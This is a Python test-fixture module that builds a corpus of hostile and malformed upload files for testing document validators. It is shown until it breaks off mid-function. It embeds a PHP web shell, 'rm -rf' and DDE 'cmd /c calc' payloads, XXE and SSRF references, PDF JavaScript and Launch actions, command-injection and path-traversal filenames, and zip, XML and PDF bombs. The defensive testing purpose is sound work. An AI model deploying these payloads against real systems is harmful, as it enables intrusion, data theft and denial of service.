"""Three hundred files and more that are hostile or odd, made anew each time and always the same.

``hostile_files()`` is for every door that takes a file: none of these may make it fail with
anything but a clear reason, and none may be kept as what it is not.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache

from evidence.good import (
    MAIN_TYPE,
    REPORT,
    SHEET,
    WORD,
    docx_parts,
    good_docx,
    good_jpeg,
    good_pdf,
    good_png,
    good_xlsx,
    package,
    pages_of,
    pdf,
    relations,
    stream,
    types,
    xlsx_parts,
)  # fmt: skip

MEGABYTE = 1 << 20
Named = tuple[str, bytes]


@cache
def hostile_files() -> list[Named]:
    """Every file with the name it comes under; all contents differ, or the names do."""
    return [
        *_odd_bytes(), *_other_types(), *_words(), *_compound(), *_odd_names(),
        *_pdfs(), *_packages(), *_pngs(), *_jpegs(), *_mutants(),
    ]  # fmt: skip


# ---- neither one thing nor another


def _odd_bytes() -> Iterator[Named]:
    yield "rong.pdf", b""
    yield "mot-byte.pdf", b"\x00"
    yield "trang.docx", b" " * 1000
    yield "khong.xlsx", bytes(5000)
    noise = random.Random(1)
    for n in range(6):
        yield f"nhieu-{n}.pdf", noise.randbytes(10 ** (n % 4 + 1))
    yield "chi-co-dau.pdf", b"%PDF-"
    yield "chi-co-dau-2.pdf", b"%PDF-1.7\n%%EOF"
    yield "chi-co-dau.jpg", b"\xff\xd8\xff"
    yield "chi-co-dau.png", b"\x89PNG\r\n\x1a\n"
    yield "chi-co-dau.docx", b"PK\x03\x04"
    yield "chi-co-duoi.docx", b"PK\x05\x06" + bytes(18)


def _other_types() -> Iterator[Named]:
    signs = {
        "gif": b"GIF89a", "bmp": b"BM\x00\x00", "tif": b"II*\x00", "tif2": b"MM\x00*",
        "webp": b"RIFF\x10\x00\x00\x00WEBPVP8 ", "heic": b"\x00\x00\x00\x18ftypheic",
        "avif": b"\x00\x00\x00\x18ftypavif", "mp4": b"\x00\x00\x00\x18ftypmp42", "rar": b"Rar!\x1a\x07\x00",
        "7z": b"7z\xbc\xaf\x27\x1c", "gz": b"\x1f\x8b\x08\x00", "bz2": b"BZh91AY&SY", "xz": b"\xfd7zXZ\x00",
        "exe": b"MZ\x90\x00", "elf": b"\x7fELF\x02", "class": b"\xca\xfe\xba\xbe", "sh": b"#!/bin/sh\nrm -rf /",
        "rtf": b"{\\rtf1\\ansi", "mp3": b"ID3\x04", "wav": b"RIFF\x10\x00\x00\x00WAVE", "ico": b"\x00\x00\x01\x00",
        "psd": b"8BPS", "ps": b"%!PS-Adobe-3.0", "djvu": b"AT&TFORM", "sqlite": b"SQLite format 3\x00",
        "lnk": b"L\x00\x00\x00\x01\x14\x02\x00", "cab": b"MSCF", "swf": b"CWS\x0a", "wasm": b"\x00asm",
        "pcap": b"\xd4\xc3\xb2\xa1", "jp2": b"\x00\x00\x00\x0cjP  ", "emf": b"\x01\x00\x00\x00",
    }  # fmt: skip
    for number, (name, sign) in enumerate(signs.items()):
        # Half of them pretend to be something else.
        ending = ("pdf", "docx", "jpg", "png")[number % 4] if number % 2 else name
        yield f"{name}-gia.{ending}", sign + b"\x11" * 300
    yield "tar.pdf", bytes(257) + b"ustar\x0000" + bytes(500)


def _words() -> Iterator[Named]:
    eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    pages = [
        "<!DOCTYPE html><html><script>alert(1)</script></html>", "<html>", "  \n<HTML><body>x",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "<script>alert(1)</script>",
        '<?xml version="1.0"?><svg onload="alert(1)"/>', "<?php system($_GET['c']); ?>",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        "alert(document.cookie)", "=cmd|'/c calc'!A1,2,3", "a,b,c\n1,2,3\n", eicar, "{}", "[]", "null",
        "Kính gửi: Sở Nội vụ", "MẬT", "GIF89a/*<script>*/=1;alert(1)//", "From: a@b.vn\nContent-Type: text/html",
        "\ufeff<html>", "BEGIN:VCARD", "-----BEGIN RSA PRIVATE KEY-----", "@echo off\r\ndel *.*",
        'Set x = CreateObject("WScript.Shell")', "[InternetShortcut]\nURL=file://server/x",
    ]  # fmt: skip
    endings = ("pdf", "jpg", "docx", "png", "xlsx")
    for number, text in enumerate(pages):
        yield f"chu-{number}.{endings[number % 5]}", text.encode()
    yield "utf16.pdf", "<html><script>1</script>".encode("utf-16")


def _compound() -> Iterator[Named]:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    for name, inside in {
        "cu.doc": "WordDocument", "cu.xls": "Workbook", "rat-cu.xls": "Book",
        "cu.ppt": "PowerPoint Document", "mat-khau.docx": "EncryptedPackage",
        "mat-khau.xlsx": "EncryptedPackage\x00", "thu.msg": "__properties_version1.0", "cai.msi": "x",
    }.items():  # fmt: skip
        yield name, head + inside.encode("utf-16-le") + bytes(500)
    yield "cu-dat-lai-ten.pdf", head


def _odd_names() -> Iterator[Named]:
    """Good files under names that are attacks."""
    names = [
        "../../etc/passwd", "..\\..\\windows\\system32\\cmd.exe", "/etc/shadow", "C:\\a\\b.pdf", "a\x00.pdf",
        "a.pdf\x00.exe", "a\r\nSet-Cookie: x=1.pdf", "\u202efdp.exe", "bao\u200bcao.pdf", "=1+1.pdf",
        "+1.pdf", "-1.pdf", "@SUM(A1).pdf", "\t=1.pdf", "＝1.pdf", "＋1.pdf", "－1.pdf", "＠1.pdf",
        "<script>alert(1)</script>.pdf", 'a"; filename="b.exe.pdf', "CON", "nul.pdf", "aux.pdf.pdf", ".htaccess",
        ".pdf", "....", " ", "", "x" * 5000 + ".pdf", "Báo cáo" * 100 + ".pdf", "a" + "\u0301" * 3000 + ".pdf",
        "Báo cáo.pdf", "%2e%2e%2fpasswd.pdf", "a;rm -rf ~.pdf", "$(reboot).pdf",
        "`id`.pdf", "a|b.pdf", "tai-lieu.pdf.exe", "tai-lieu.exe.pdf", "tai-lieu.docm", "\ud800.pdf", "\ufeff.pdf",
        "a/b/c/d.pdf", "a\u2028b.pdf", "😀.pdf", "ảnh.png", "biểu.xlsx",
    ]  # fmt: skip
    for name in names:
        yield name, good_pdf()
    yield "anh.pdf", good_jpeg()
    yield "anh.jpg", good_png()
    yield "anh.exe", good_png("L")
    yield "bang.docx", good_xlsx()
    yield "van-ban.xlsx", good_docx()
    yield "van-ban.html", good_docx("<w:p/>")


# ---- PDF


@cache
def packed_zeros(megabytes: int) -> bytes:
    """What so many megabytes of zeros deflate to, with the head and sum of zlib."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflater.compress(bytes(MEGABYTE)) + deflater.flush(zlib.Z_FULL_FLUSH)
    size = megabytes * MEGABYTE
    return (
        b"\x78\xda" + block * megabytes + b"\x03\x00" + struct.pack(">L", (size % 65521) << 16 | 1)
    )


def _pdfs() -> Iterator[Named]:
    good = good_pdf()
    yield "khoang-trang-truoc.pdf", b" " + good
    yield "html-truoc.pdf", b"<html><!--" + good
    yield "xa-dau-tep.pdf", b"x" * 900 + good
    yield "qua-xa.pdf", b"x" * 2000 + good
    yield "html-trong-dau.pdf", pdf(pages_of([REPORT]), head=b"%<script>alert(1)</script>\n")
    yield "zip-sau.pdf", good + good_docx()
    yield "zip-sau-2.pdf", good + _ends_with(good_docx(), b"%%EOF\n")
    yield "html-sau.pdf", good + b"<html><script>alert(1)</script></html>"
    yield "khong-sau.pdf", good + bytes(400)
    yield "rac-sau.pdf", good + b"\x01" * 5000
    for part in range(1, 9):
        yield f"cut-{part}.pdf", good[: len(good) * part // 9]
    acts = {
        "js": b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "js-ma-hoa": b"/OpenAction << /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>",
        "js-ten": b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>",
        "chay": b"/OpenAction << /S /Launch /F (calc.exe) >>",
        "chay-win": b"/OpenAction << /S/Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "gui": b"/OpenAction << /S /SubmitForm /F (http://x.vn/) >>",
        "nhap": b"/AA << /WC << /S /ImportData /F (a.fdf) >> >>",
        "tep-khac": b"/OpenAction << /S /GoToR /F (\\\\\\\\server\\\\share) /D [0] >>",
        "dinh-kem": b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>] >> >>",
        "xfa": b"/AcroForm << /XFA [(a) 100 0 R] /Fields [] >>",
        "uri": b"/OpenAction << /S /URI /URI (http://169.254.169.254/) >>",
    }
    more = {100: stream(b"<xdp/>"), 101: stream(b"MZ\x90\x00")}
    for name, catalog in acts.items():
        spare = more if b"0 R" in catalog else {}
        yield f"hanh-dong-{name}.pdf", pdf(pages_of([REPORT], catalog=catalog, more=spare))
    yield (
        "hanh-dong-trang.pdf",
        pdf(pages_of([REPORT], page=b"/AA << /O << /S /JavaScript /JS (1) >> >>")),
    )
    hidden = b"200 0 201 44 " + b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>  <<>>"
    yield (
        "giau-trong-luong.pdf",
        pdf(
            pages_of(
                [REPORT], more={100: stream(hidden, b"/Type /ObjStm /N 2 /First 13", packed=True)}
            )
        ),
    )
    key = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >> /ID [<00> <00>]" % (
        b"41" * 32,
        b"42" * 32,
    )
    yield "mat-khau.pdf", pdf(pages_of([REPORT]), trailer=key)
    yield from _page_trees()
    yield from _pdf_bombs()


def _page_trees() -> Iterator[Named]:
    base = pages_of([REPORT])
    for count in (0, -1, 2001, 3_000_000, 2**31 - 1, 10**18):
        yield (
            f"dem-{count}.pdf",
            pdf(base | {2: b"<< /Type /Pages /Kids [10 0 R] /Count %d >>" % count}),
        )
    yield (
        "nhieu-trang.pdf",
        pdf(base | {2: b"<< /Type /Pages /Kids [%s] /Count 5000 >>" % (b"10 0 R " * 5000)}),
    )
    yield "vong-trang.pdf", pdf(base | {2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"})
    yield (
        "vong-trang-2.pdf",
        pdf(
            base
            | {2: b"<< /Type /Pages /Kids [100 0 R] >>", 100: b"<< /Type /Pages /Kids [2 0 R] >>"}
        ),
    )
    deep = {
        n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1)
        for n in range(100, 3000)
    }
    yield "sau.pdf", pdf(base | {2: b"<< /Type /Pages /Kids [100 0 R] /Count 1 >>"} | deep)
    double = {
        n: b"<< /Type /Pages /Kids [%d 0 R %d 0 R] >>" % (n + 1, n + 1) for n in range(100, 160)
    }
    yield (
        "nhan-doi.pdf",
        pdf(base | {2: b"<< /Type /Pages /Kids [100 0 R] >>"} | double | {160: base[10]}),
    )
    yield "khong-trang.pdf", pdf({1: b"<< /Type /Catalog >>"})
    yield "trang-la-so.pdf", pdf(base | {2: b"<< /Type /Pages /Kids [5] /Count 1 >>"})
    yield "goc-la-chinh-no.pdf", pdf({1: b"1 0 R"})
    yield "prev-vong.pdf", pdf(base, trailer=b"/Prev 0")
    yield "prev-am.pdf", pdf(base, trailer=b"/Prev -5")
    yield "mang-sau.pdf", pdf(base | {100: b"[" * 50_000 + b"]" * 50_000}, trailer=b"/Info 100 0 R")
    yield (
        "tu-dien-sau.pdf",
        pdf(
            base
            | {
                1: b"<< /Type /Catalog /Pages 2 0 R /X "
                + b"<</A" * 20_000
                + b" 1"
                + b">>" * 20_000
                + b">>"
            }
        ),
    )
    yield "ten-dai.pdf", pdf(base | {100: b"/" + b"A" * 500_000})
    yield "xref-sai.pdf", good_pdf().replace(b"0000000", b"9999999")
    yield "startxref-sai.pdf", good_pdf().replace(b"startxref\n", b"startxref\n99")
    yield "khong-xref.pdf", good_pdf().replace(b"xref", b"yref")


def _pdf_bombs() -> Iterator[Named]:
    def content(body: bytes, about: bytes) -> bytes:
        return pdf(
            pages_of([REPORT])
            | {11: b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(body), about, body)}
        )

    flate = b"/Filter /FlateDecode"
    yield "bom.pdf", content(packed_zeros(400), flate)
    yield (
        "bom-hai-lop.pdf",
        content(zlib.compress(packed_zeros(2000)), b"/Filter [/FlateDecode /FlateDecode]"),
    )
    yield "bom-viet-tat.pdf", content(zlib.compress(packed_zeros(2000)), b"/Filter [/Fl /Fl]")
    yield "bom-ten-ma-hoa.pdf", content(packed_zeros(400), b"/Filter /Flate#44ecode")
    yield (
        "bom-nhieu-lop.pdf",
        content(
            zlib.compress(zlib.compress(packed_zeros(2000))),
            b"/Filter [/FlateDecode /FlateDecode /FlateDecode]",
        ),
    )
    yield (
        "bom-luong-doi-tuong.pdf",
        content(packed_zeros(400), flate + b" /Type /ObjStm /N 1000000 /First 10"),
    )
    yield (
        "bom-anh-gia.pdf",
        content(packed_zeros(1500), flate + b" /Subtype /Image /Width 10 /Height 10"),
    )
    image = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 "
    for width, height in ((100_000, 100_000), (2**31 - 1, 2**31 - 1), (1, 10**9)):
        size = image + b"/Width %d /Height %d " % (width, height) + flate
        body = b"<< /Length 5 %s >>\nstream\nabcde\nendstream" % size
        page = b"/Resources << /XObject << /I 100 0 R >> >>"
        objects = pages_of([REPORT], page=page, more={100: body})
        yield (
            f"anh-{width}x{height}.pdf",
            pdf(objects | {11: stream(b"q 500 0 0 500 0 0 cm /I Do Q")}),
        )
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 100 0 R /B 101 0 R >> >>"
    loop = {100: stream(b"/A Do /B Do " * 50, form), 101: stream(b"/B Do /A Do " * 50, form)}
    objects = pages_of([REPORT], more=loop)
    objects[10] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 11 0 R /Resources << /XObject << /A 100 0 R >> >> >>"
    )
    yield "vong-hinh.pdf", pdf(objects | {11: stream(b"/A Do")})
    tower = {
        n: stream(b"/N Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /N %d 0 R >> >>" % (n + 1))
        for n in range(100, 112)
    }  # fmt: skip
    objects = (
        objects
        | tower
        | {112: stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")}
    )
    yield "thap-hinh.pdf", pdf(objects | {11: stream(b"/A Do")})
    for number, box in enumerate(
        (
            b"0 0 1e30 1e30",
            b"0 0 0 0",
            b"-1e9 -1e9 1e9 1e9",
            b"0 0 14400000 14400000",
            b"a b c d",
            b"5 5 1 1",
        )
    ):
        yield f"kho-giay-{number}.pdf", pdf(pages_of([REPORT], page=b"/MediaBox [%s]" % box))
    yield "ngoac-sau.pdf", pdf(pages_of([REPORT]) | {11: stream(b"q " * 300_000, packed=True)})
    yield "chu-sau.pdf", pdf(pages_of([REPORT]) | {11: stream(b"[" * 300_000, packed=True)})
    yield (
        "duong-ve.pdf",
        pdf(
            pages_of([REPORT]) | {11: stream(b"0 0 m " + b"1 1 l " * 2_000_000 + b"S", packed=True)}
        ),
    )
    yield "lzw-hong.pdf", content(b"\x80\x0b\x60\x50\x22" * 100, b"/Filter /LZWDecode")
    yield (
        "jbig2-hong.pdf",
        content(b"\x97JB2" * 100, b"/Subtype /Image /Width 9 /Height 9 /Filter /JBIG2Decode"),
    )
    yield (
        "jpx-hong.pdf",
        content(
            b"\xff\x4f\xff\x51" * 100, b"/Subtype /Image /Width 9 /Height 9 /Filter /JPXDecode"
        ),
    )


# ---- packages


def _ends_with(archive: bytes, comment: bytes) -> bytes:
    """An archive with a comment at its end."""
    return archive[:-2] + struct.pack("<H", len(comment)) + comment


def _packages() -> Iterator[Named]:
    docx, xlsx = docx_parts(), xlsx_parts()
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    sheet_macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    yield "macro.docm", package(docx | {"[Content_Types].xml": types("word/document.xml", macro)})
    yield (
        "macro.docx",
        package(
            docx
            | {
                "[Content_Types].xml": types("word/document.xml", macro),
                "word/vbaProject.bin": b"x",
            }
        ),
    )
    yield (
        "macro.xlsx",
        package(xlsx | {"[Content_Types].xml": types("xl/workbook.xml", sheet_macro)}),
    )
    yield "macro-giau.docx", package(docx | {"word/vbaProject.bin": b"x"})
    yield "macro-giau-2.xlsx", package(xlsx | {"xl/VBAPROJECT.BIN": b"x"})
    yield (
        "macro-giau-3.docx",
        package(
            docx
            | {
                "word/_rels/document.xml.rels": relations(("vbaProject", "a.bin", "")),
                "word/a.bin": b"x",
            }
        ),
    )
    yield "macro4.xlsx", package(xlsx | {"xl/macrosheets/sheet1.xml": b"<a/>"})
    yield "activex.docx", package(docx | {"word/activeX/activeX1.xml": b"<a/>"})
    for number, target in enumerate((
        "http://x.vn/a.dotm", "https://x.vn/a", "\\\\server\\share\\a.dotm", "//server/a.dotm", "file://server/a.dotm",
        "mhtml:http://x.vn/a!x-usc:b", "ms-msdt:/id PCWDiagnostic", "file:///C:\\Users\\a\\Normal.dotm", "ftp://x.vn/a",
    )):  # fmt: skip
        for kind in ("attachedTemplate", "oleObject"):
            rels = relations((kind, target, "External"))
            yield (
                f"ngoai-{kind}-{number}.docx",
                package(docx | {"word/_rels/document.xml.rels": rels}),
            )
    for kind in ("frame", "subDocument", "aFChunk", "image", "hyperlink"):
        rels = relations((kind, "http://169.254.169.254/latest", "External"))
        yield f"ngoai-{kind}.docx", package(docx | {"word/_rels/document.xml.rels": rels})
    yield (
        "lien-ket.xlsx",
        package(
            xlsx
            | {
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    ("externalLinkPath", "file:///C:\\b.xlsx", "External")
                )
            }
        ),
    )
    yield (
        "dde.xlsx",
        package(
            xlsx
            | {
                "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
            }
        ),
    )
    yield (
        "dde.docx",
        package(
            docx_parts(
                '<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
            )
        ),
    )
    yield (
        "dde-cat.docx",
        package(
            docx_parts(
                "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd</w:instrText></w:r></w:p>"
            )
        ),
    )
    yield "dde-don.docx", package(docx_parts('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'))
    yield from _xml_bombs()
    yield from _zip_bombs()
    yield from _zip_names()
    yield from _other_packages()
    for part in range(1, 9):
        yield f"cut-{part}.docx", good_docx()[: len(good_docx()) * part // 9]
    good = good_docx()
    yield "sau.docx", good + b"<html>"
    yield "sau-zip.docx", good + good_xlsx()
    yield "chu-thich.docx", _ends_with(good, b"<script>alert(1)</script>")
    yield "truoc.docx", b"MZ" + good
    yield "pdf-truoc.docx", good_pdf() + good
    yield "pdf-trong.docx", package({"a.txt": good_pdf(), **docx}, compression=zipfile.ZIP_STORED)
    yield (
        "html-trong.docx",
        package({"a.txt": b"<html><script>", **docx}, compression=zipfile.ZIP_STORED),
    )


def _xml_bombs() -> Iterator[Named]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    declared = {
        "cuoi": f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]><x>&a9;</x>',
        "phinh": f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]><x>{"&a;" * 10_000}</x>',
        "tep": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        "mang": '<!DOCTYPE x SYSTEM "http://169.254.169.254/x.dtd"><x/>',
        "tham-so": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x.vn/"> %a;]><x/>',
        "trong": "<!DOCTYPE x><x/>",
    }
    for name, text in declared.items():
        yield f"{name}.docx", package(docx_parts() | {"word/document.xml": text.encode()})
        yield f"{name}.xlsx", package(xlsx_parts() | {"xl/sharedStrings.xml": text.encode()})
    dtd = declared["cuoi"]
    yield "dtd-loai.docx", package(docx_parts() | {"[Content_Types].xml": dtd.encode()})
    yield "dtd-quan-he.docx", package(docx_parts() | {"_rels/.rels": dtd.encode()})
    yield "dtd-utf16.docx", package(docx_parts() | {"word/styles.xml": dtd.encode("utf-16")})
    yield "dtd-vml.xlsx", package(xlsx_parts() | {"xl/drawings/vmlDrawing1.vml": dtd.encode()})
    yield "xml-sau.docx", package(docx_parts("<w:p>" * 200_000 + "</w:p>" * 200_000))
    yield (
        "xml-sau.xlsx",
        package(xlsx_parts() | {"xl/styles.xml": b"<a>" * 500_000 + b"</a>" * 500_000}),
    )
    yield "xml-hong.docx", package(docx_parts() | {"word/document.xml": b"<w:document>"})
    yield "xml-rong.docx", package(docx_parts() | {"word/document.xml": b""})
    yield (
        "xml-goc-khac.docx",
        package(
            docx_parts() | {"word/document.xml": b"<html xmlns='http://www.w3.org/1999/xhtml'/>"}
        ),
    )
    yield (
        "xml-goc-khac.xlsx",
        package(xlsx_parts() | {"xl/workbook.xml": f'<w:document xmlns:w="{WORD}"/>'.encode()}),
    )
    yield (
        "xml-ma-la.docx",
        package(docx_parts() | {"word/styles.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}),
    )
    attributes = " ".join(f'a{n}="1"' for n in range(100_000))
    yield (
        "xml-thuoc-tinh.docx",
        package(docx_parts() | {"word/styles.xml": f"<a {attributes}/>".encode()}),
    )
    yield (
        "xml-ten-dai.docx",
        package(docx_parts() | {"word/styles.xml": b"<" + b"a" * 3_000_000 + b"/>"}),
    )
    shared = f'<sst xmlns="{SHEET}" count="4000000000" uniqueCount="4000000000"/>'.encode()
    yield "dem-gia.xlsx", package(xlsx_parts() | {"xl/sharedStrings.xml": shared})
    far = f'<worksheet xmlns="{SHEET}"><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    yield "o-xa.xlsx", package(xlsx_parts() | {"xl/worksheets/sheet1.xml": far.encode()})
    many = "".join(f'<sheet name="{n}" sheetId="{n}"/>' for n in range(5000))
    yield (
        "nhieu-trang.xlsx",
        package(
            xlsx_parts()
            | {
                "xl/workbook.xml": f'<workbook xmlns="{SHEET}"><sheets>{many}</sheets></workbook>'.encode()
            }
        ),
    )


def _with_raw(
    parts: dict[str, bytes], *, names: list[str], packed: bytes, size: int, crc: int
) -> bytes:
    """An archive that also has members of these names, all of one run of packed bytes."""
    out = io.BytesIO(package(parts))
    with zipfile.ZipFile(out, "a") as archive:
        at = archive.start_dir
        first = (
            struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(packed), size, 1, 0)
            + b"x"
            + packed
        )
        archive.fp.seek(at)  # type: ignore[union-attr]
        archive.fp.write(first)  # type: ignore[union-attr]
        archive.start_dir = at + len(first)
        for name in names:
            member = zipfile.ZipInfo(name)
            member.header_offset, member.compress_type, member.CRC = at, zipfile.ZIP_DEFLATED, crc
            member.compress_size, member.file_size = len(packed), size
            archive.filelist.append(member)
        archive._didModify = True  # type: ignore[attr-defined]
    return out.getvalue()


def _zip_bombs() -> Iterator[Named]:
    def zeros(megabytes: int) -> tuple[bytes, int, int]:
        return (
            packed_zeros(megabytes)[2:-4],
            megabytes * MEGABYTE,
            zlib.crc32(bytes(megabytes * MEGABYTE)),
        )

    packed, size, crc = zeros(400)
    yield (
        "bom.docx",
        _with_raw(docx_parts(), names=["word/media/a.png"], packed=packed, size=size, crc=crc),
    )
    yield (
        "bom.xlsx",
        _with_raw(
            xlsx_parts(), names=["xl/worksheets/sheet9.xml"], packed=packed, size=size, crc=crc
        ),
    )
    yield (
        "bom-noi-doi.docx",
        _with_raw(docx_parts(), names=["word/media/a.png"], packed=packed, size=10, crc=crc),
    )
    packed, size, crc = zeros(60)
    yield (
        "bom-ty-le.docx",
        _with_raw(docx_parts(), names=["word/media/a.png"], packed=packed, size=size, crc=crc),
    )
    packed, size, crc = zeros(1)
    names = [f"word/media/{n}.png" for n in range(2000)]
    yield "bom-chong.docx", _with_raw(docx_parts(), names=names, packed=packed, size=size, crc=crc)
    yield (
        "bom-chong-xml.docx",
        _with_raw(
            docx_parts(),
            names=[f"word/{n}.xml" for n in range(150)],
            packed=packed,
            size=size,
            crc=crc,
        ),
    )
    yield (
        "nhieu-phan.docx",
        package(
            docx_parts() | {f"word/media/{n}": b"" for n in range(10_050)},
            compression=zipfile.ZIP_STORED,
        ),
    )
    nested = b"0" * 1000
    for _ in range(6):
        nested = package({"a.zip": nested})
    yield "long-nhau.docx", package(docx_parts() | {"word/media/a.zip": nested})
    yield "long-nhau-ten-khac.docx", package(docx_parts() | {"word/media/image1.png": nested})
    yield (
        "nhung.docx",
        package(docx_parts() | {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": good_xlsx()}),
    )
    yield (
        "rar-trong.xlsx",
        package(xlsx_parts() | {"xl/media/a.bin": b"Rar!\x1a\x07\x00" + bytes(100)}),
    )
    yield "exe-trong.docx", package(docx_parts() | {"word/media/a.png": b"MZ\x90\x00" + bytes(100)})
    for ending in ("exe", "js", "vbs", "bat", "lnk", "hta"):
        yield f"{ending}-trong.docx", package(docx_parts() | {f"word/embeddings/a.{ending}": b"x"})


def _zip_names() -> Iterator[Named]:
    names = [
        "../a.xml", "../../../../etc/passwd", "word/../../a", "/etc/passwd", "C:/a.xml", "c:a", "word\\..\\a",
        "..\\a", "word/a\x01.xml", "word/\u202ea.xml", "word/a\nb.xml", "\\\\server\\a",
    ]  # fmt: skip
    for number, name in enumerate(names):
        yield f"duong-dan-{number}.docx", package(docx_parts() | {name: b"<a/>"})
    nul = package(docx_parts() | {"word/aXb.xml": b"<a/>"})
    yield "ten-nul.docx", nul.replace(b"word/aXb.xml", b"word/a\x00b.xml")
    out = io.BytesIO(good_docx())
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "lien-ket.docx", out.getvalue()
    twice = package(docx_parts() | {"word/Document.XML": b"<a/>"})
    yield "trung-ten-hoa.docx", twice
    yield "trung-ten.docx", twice.replace(b"word/Document.XML", b"word/document.xml")
    locked = bytearray(good_docx())
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    yield "khoa.docx", bytes(locked)


def _other_packages() -> Iterator[Named]:
    slides = MAIN_TYPE.format("presentationml.presentation")
    yield (
        "trinh-chieu.pptx",
        package(
            {
                "[Content_Types].xml": types("ppt/presentation.xml", slides),
                "ppt/presentation.xml": b"<a/>",
            }
        ),
    )
    yield (
        "mau.dotx",
        package(
            docx_parts()
            | {
                "[Content_Types].xml": types(
                    "word/document.xml",
                    MAIN_TYPE.format("wordprocessingml.template").replace("main", "main"),
                )
            }
        ),
    )
    yield (
        "odt.docx",
        package({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
    )
    yield "epub.pdf", package({"mimetype": b"application/epub+zip"})
    yield "jar.docx", package({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0"})
    yield "zip.zip", package({"a.pdf": good_pdf()})
    yield "zip-rong.zip", package({})
    yield (
        "xps.docx",
        package(
            {
                "[Content_Types].xml": types(
                    "FixedDocSeq.fdseq", "application/vnd.ms-package.xps-fixeddocumentsequence+xml"
                )
            }
        ),
    )
    yield (
        "xlsb.xlsx",
        package(
            {
                "[Content_Types].xml": types(
                    "xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
                ),
                "xl/workbook.bin": b"x",
            }
        ),
    )
    yield (
        "thieu-chinh.docx",
        package({name: part for name, part in docx_parts().items() if name != "word/document.xml"}),
    )
    yield (
        "thieu-loai.docx",
        package({name: part for name, part in docx_parts().items() if not name.startswith("[")}),
    )
    both = types(
        "word/document.xml",
        MAIN_TYPE.format("wordprocessingml.document"),
        f'<Override PartName="/xl/workbook.xml" ContentType="{MAIN_TYPE.format("spreadsheetml.sheet")}"/>',
    )
    yield "hai-loai.docx", package(xlsx_parts() | docx_parts() | {"[Content_Types].xml": both})
    for name, how in (("bz2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        yield f"nen-{name}.docx", package(docx_parts(), compression=how)


# ---- pictures


def chunk(name: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">L", len(content))
        + name
        + content
        + struct.pack(">L", zlib.crc32(name + content))
    )


def png(
    width: int, height: int, *, packed: bytes, more: bytes = b"", depth: int = 8, colour: int = 0
) -> bytes:
    head = struct.pack(">LLBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + more
        + chunk(b"IDAT", packed)
        + chunk(b"IEND", b"")
    )


def _pngs() -> Iterator[Named]:
    row = zlib.compress(b"\x00" * 11 * 10)
    for width, height in (
        (100_000, 100_000),
        (2**31 - 1, 2**31 - 1),
        (2**32 - 1, 1),
        (50_000, 1000),
        (6400, 6400),
        (0, 10),
        (10, 0),
    ):
        yield f"lon-{width}x{height}.png", png(width, height, packed=row)
    yield "that-lon.png", png(30_000, 30_000, packed=packed_zeros(860))
    yield "vua-du.png", png(6000, 6000, packed=packed_zeros(36))
    yield (
        "bom-chu.png",
        png(10, 10, packed=row, more=chunk(b"zTXt", b"a\x00\x00" + packed_zeros(400))),
    )
    yield (
        "bom-chu-2.png",
        png(10, 10, packed=row, more=chunk(b"iTXt", b"a\x00\x01\x00\x00\x00" + packed_zeros(400))),
